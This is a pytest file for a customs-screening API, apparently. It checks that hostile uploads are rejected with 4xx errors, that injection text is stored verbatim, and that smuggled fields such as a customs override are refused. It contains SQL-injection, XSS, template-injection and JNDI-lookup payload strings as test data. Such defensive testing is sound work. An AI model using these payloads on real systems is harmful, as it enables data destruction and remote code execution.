"""The hostile-input corpus (tests/api/hostile/, made by make_corpus.py): every file is answered 4xx
with a JSON body that says what was wrong, nothing is stored, and the service stays healthy."""

from __future__ import annotations

from pathlib import Path

import pytest
from apihelpers import SAMPLES, Api, FakeDetector

HOSTILE = Path(__file__).parent / "hostile"
SCANS = sorted((HOSTILE / "scans").iterdir())
DECLARATIONS = sorted((HOSTILE / "declarations").iterdir())
DECISIONS = sorted((HOSTILE / "decisions").iterdir())
MEDIA = {".png": "image/png", ".jpg": "image/jpeg", ".bin": "application/octet-stream"}


def test_corpus_has_at_least_100_files() -> None:
    assert len(SCANS) + len(DECLARATIONS) + len(DECISIONS) >= 100


def assert_4xx(response, name: str) -> None:
    assert 400 <= response.status_code < 500, f"{name}: {response.status_code} {response.text[:300]}"
    body = response.json()
    assert body["error"] and len(body["detail"]) > 10, f"{name}: {body}"


def test_hostile_inputs_are_4xx(api_factory) -> None:
    api: Api = api_factory(FakeDetector(("gun", 0.95)))
    good_scan = (SAMPLES / "scan_00.png").read_bytes()
    for path in SCANS:
        files = {"scan": (path.name, path.read_bytes(), MEDIA[path.suffix])}
        assert_4xx(api.upload(f"h-{path.stem}", files=files), path.name)
    for path in DECLARATIONS:
        files = {"scan": ("scan.png", good_scan, "image/png")}
        data = {"declaration": path.read_text(encoding="utf-8")}
        assert_4xx(api.upload(f"h-{path.stem}", files=files, data=data), path.name)
    officer = api.headers("officer")
    assert api.client.get("/v1/queue", headers=officer).json()["total"] == 0  # nothing was stored
    held = api.decided("held")
    for path in DECISIONS:
        response = api.client.post(
            f"/v1/scans/{held['id']}/decision",
            content=path.read_bytes(),
            headers={**officer, "Content-Type": "application/json"},
        )
        assert_4xx(response, path.name)
    assert api.client.get(f"/v1/scans/{held['id']}", headers=officer).json()["state"] == "held"
    assert api.client.get("/healthz").status_code == 200
    assert api.client.get("/readyz").status_code == 200
    assert 'status="500"' not in api.client.get("/metrics").text


@pytest.mark.parametrize(
    "text",
    ["'; DROP TABLE cases; --", "<script>alert(1)</script>", "{{7*7}} ${jndi:ldap://x/a}", "Robert'); --"],
    ids=["sql", "html", "template", "bobby"],
)
def test_injection_text_in_a_description_is_stored_verbatim(api: Api, text: str) -> None:
    import json

    declaration = json.loads((SAMPLES / "scan_00.json").read_text(encoding="utf-8"))
    declaration["items"][0]["description"] = text
    response = api.upload("inj", data={"declaration": json.dumps(declaration)}, wait=20)
    assert response.status_code == 200, response.text
    assert response.json()["declaration"]["items"][0]["description"] == text
    assert api.client.get("/readyz").status_code == 200


@pytest.mark.parametrize(
    ("change", "fragment"),
    [
        ({"customs_override": "release"}, "customs_override: unknown field; the fields are category"),
        ({"items": [{"description": "knife", "hidden": 1}]}, "items[0].hidden: unknown field"),
        ({"total_value": [[[[[[[[1]]]]]]]]}, "nested more than 8 levels deep"),
    ],
    ids=["top-level", "item", "deep"],
)
def test_declaration_boundary_names_the_problem(api: Api, change: dict, fragment: str) -> None:
    import json

    declaration = json.loads((SAMPLES / "scan_00.json").read_text(encoding="utf-8"))
    declaration.update(change)
    response = api.upload("decl", data={"declaration": json.dumps(declaration)})
    assert response.status_code == 422, response.text
    assert response.json()["error"] == "bad_declaration"
    assert fragment in response.json()["detail"]


@pytest.mark.parametrize(
    ("path", "content", "media", "who"),
    [
        ("/v1/webhooks", b'{"name": "\xff"}', "application/json", "admin"),
        ("/v1/scans", b"--b\r\nNone--b--\r\n", "multipart/form-data; boundary=b", "station"),
    ],
    ids=["json-not-utf8", "broken-multipart"],
)
def test_unreadable_body_is_422(api: Api, path: str, content: bytes, media: str, who: str) -> None:
    response = api.client.post(path, content=content, headers={**api.headers(who), "Content-Type": media})
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["error"] == "invalid_request" and "could not be read as" in body["detail"]
    assert body["errors"][0]["field"] == "body"
